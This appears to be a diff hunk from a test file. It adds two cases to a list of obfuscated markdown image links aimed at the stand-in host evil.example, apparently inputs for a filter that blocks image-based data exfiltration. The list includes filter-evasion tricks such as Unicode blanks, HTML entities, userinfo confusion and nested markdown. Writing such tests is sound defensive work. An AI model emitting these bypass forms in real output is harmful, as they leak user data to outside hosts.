@@ -77,6 +77,8 @@ AWAY = "//evil.example/x?d=1"
         f"![x](https://good.example{'^' * 64}@evil.example/x?d=1)",
         *(f"![x]({blank}{AWAY})" for blank in "\xa0\u1680\u2003\u2028\u2029\u3000\ufeff"),
         "![x](\xa0h&#116;tps&#58;/&#47;evil.example/x?d=1)",
+        "See https://good.example/![x](https://evil.example/x?d=1)",
+        "https://good.example/[a]![x](//evil.example/x?d=1)",
         "![x](\u2028 \ufeff</\\/evil.example/x?d=1>)",
         rf"![x](h&#116tps\:{AWAY})",
         r"![x](<&#47\/evil.example/x?d=1>)",
